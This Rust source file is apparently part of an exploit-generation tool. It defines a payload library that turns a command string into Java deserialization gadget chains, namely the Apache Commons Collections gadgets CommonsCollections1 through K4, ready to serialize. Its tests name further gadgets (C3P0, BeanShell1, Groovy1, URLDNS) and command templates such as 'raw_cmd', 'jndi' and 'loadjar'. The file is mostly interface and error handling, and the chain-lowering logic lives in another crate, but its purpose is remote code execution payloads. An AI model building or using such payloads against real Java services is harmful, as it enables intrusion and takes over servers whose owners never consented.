//! Payload library boundary
//!
//! The orchestrator never builds gadget object graphs itself. It hands a
//! gadget name and a command string to a [`PayloadLibrary`] and gets back
//! either an object graph to serialize or bytes that are already a stream.

use gadgetforge_codegen::{
    ClassTable, CommandCompiler, Error as CodegenError, JavaValue, TransformerSchema, lower_chain,
};
use thiserror::Error;

/// What a library hands back for one gadget
#[derive(Debug, Clone)]
pub enum Payload {
    /// An object graph, serialized by the orchestrator
    Graph(JavaValue),
    /// Bytes written verbatim (gadgets that hand-assemble their stream)
    Raw(Vec<u8>),
}

/// Failure inside the payload library
#[derive(Error, Debug)]
pub enum GadgetConstructionError {
    /// The library has no implementation for this gadget or command
    #[error("no implementation for {gadget} ({command})")]
    MissingImplementation {
        /// Gadget name
        gadget: String,
        /// Command that was requested
        command: String,
    },

    /// The implementation exists but failed
    #[error("{gadget}: construction failed: {message}")]
    Construction {
        /// Gadget name
        gadget: String,
        /// Failure description
        message: String,
    },
}

/// Source of gadget object graphs.
///
/// Implementations are called from blocking worker threads and must be
/// safe to share between them.
pub trait PayloadLibrary: Send + Sync {
    /// Build the gadget object graph embedding `command`.
    ///
    /// `command` is `None` for gadgets that take no argument at all.
    fn materialize(
        &self,
        gadget: &str,
        command: Option<&str>,
    ) -> Result<Payload, GadgetConstructionError>;
}

/// Gadgets whose payload is the chained transformer, with the transformer
/// classes they deserialize with
const TRANSFORMER_GADGETS: [(&str, Collections); 8] = [
    ("CommonsCollections1", Collections::V3),
    ("CommonsCollections5", Collections::V3),
    ("CommonsCollections6", Collections::V3),
    ("CommonsCollections6Lite", Collections::V3),
    ("CommonsCollections7", Collections::V3),
    ("CommonsCollections9", Collections::V3),
    ("CommonsCollectionsK3", Collections::V3),
    ("CommonsCollectionsK4", Collections::V4),
];

#[derive(Debug, Clone, Copy)]
enum Collections {
    V3,
    V4,
}

/// Built-in library producing the lowered transformer chain for a command.
///
/// Only the commons-collections gadgets whose payload is the chained
/// transformer are provided; every other gadget reports
/// [`GadgetConstructionError::MissingImplementation`] and needs a full
/// library.
#[derive(Debug, Clone)]
pub struct TransformerChainLibrary {
    compiler: CommandCompiler,
    table: ClassTable,
}

impl TransformerChainLibrary {
    /// Library over the JDK class table
    pub fn new(compiler: CommandCompiler) -> Self {
        Self {
            compiler,
            table: ClassTable::jdk(),
        }
    }

    /// Transformer classes the named gadget deserializes with, if this
    /// library provides it
    pub fn schema_for(gadget: &str) -> Option<TransformerSchema> {
        TRANSFORMER_GADGETS
            .iter()
            .find(|(name, _)| *name == gadget)
            .map(|(_, collections)| match collections {
                Collections::V3 => TransformerSchema::commons_collections3(),
                Collections::V4 => TransformerSchema::commons_collections4(),
            })
    }
}

impl Default for TransformerChainLibrary {
    fn default() -> Self {
        Self::new(CommandCompiler::default())
    }
}

impl PayloadLibrary for TransformerChainLibrary {
    fn materialize(
        &self,
        gadget: &str,
        command: Option<&str>,
    ) -> Result<Payload, GadgetConstructionError> {
        let missing = || GadgetConstructionError::MissingImplementation {
            gadget: gadget.to_string(),
            command: command.unwrap_or_default().to_string(),
        };
        let command = command.ok_or_else(missing)?;
        let schema = Self::schema_for(gadget).ok_or_else(missing)?;

        let chain = match self.compiler.compile(command) {
            Ok(chain) => chain,
            Err(CodegenError::UnsupportedCommand(_)) => return Err(missing()),
            Err(e) => {
                return Err(GadgetConstructionError::Construction {
                    gadget: gadget.to_string(),
                    message: e.to_string(),
                });
            }
        };

        let graph = lower_chain(&chain, &schema, &self.table).map_err(|e| {
            GadgetConstructionError::Construction {
                gadget: gadget.to_string(),
                message: e.to_string(),
            }
        })?;
        tracing::trace!(gadget, schema = schema.name(), "lowered transformer chain");
        Ok(Payload::Graph(graph))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    #[test]
    fn test_transform_command_materializes() {
        let library = TransformerChainLibrary::default();
        let payload = library
            .materialize("CommonsCollections6", Some("raw_cmd:{{param0}}"))
            .unwrap();
        assert!(matches!(payload, Payload::Graph(JavaValue::Object(_))));
    }

    #[test]
    fn test_template_command_is_missing() {
        let library = TransformerChainLibrary::default();
        let err = library
            .materialize("CommonsCollections3", Some("class_base64:"))
            .unwrap_err();
        assert!(matches!(
            err,
            GadgetConstructionError::MissingImplementation { .. }
        ));
    }

    #[test]
    fn test_no_argument_is_missing() {
        let library = TransformerChainLibrary::default();
        assert!(matches!(
            library.materialize("SimplePrincipalCollection", None),
            Err(GadgetConstructionError::MissingImplementation { .. })
        ));
    }

    #[test]
    fn test_bad_argument_is_construction_failure() {
        let library = TransformerChainLibrary::default();
        let err = library
            .materialize("CommonsCollections5", Some("loadjar:{{param0}}"))
            .unwrap_err();
        assert!(matches!(err, GadgetConstructionError::Construction { .. }));
    }

    #[test]
    fn test_collections4_schema() {
        let name = |gadget: &str| TransformerChainLibrary::schema_for(gadget).map(|s| s.name());
        assert_eq!(name("CommonsCollectionsK4"), Some("commons-collections4"));
        assert_eq!(name("CommonsCollections6"), Some("commons-collections"));
        assert_eq!(name("CommonsCollections2"), None);
    }

    #[rstest]
    #[case("C3P0", "raw_cmd:{{param0}}")]
    #[case("BeanShell1", "raw_cmd:{{param0}}")]
    #[case("Groovy1", "raw_cmd:{{param0}}")]
    #[case("CommonsBeanutils3", "jndi:{{param0}}")]
    #[case("URLDNS", "http://{{param0}}")]
    fn test_other_gadgets_are_missing(#[case] gadget: &str, #[case] command: &str) {
        let library = TransformerChainLibrary::default();
        assert!(matches!(
            library.materialize(gadget, Some(command)),
            Err(GadgetConstructionError::MissingImplementation { .. })
        ));
    }
}
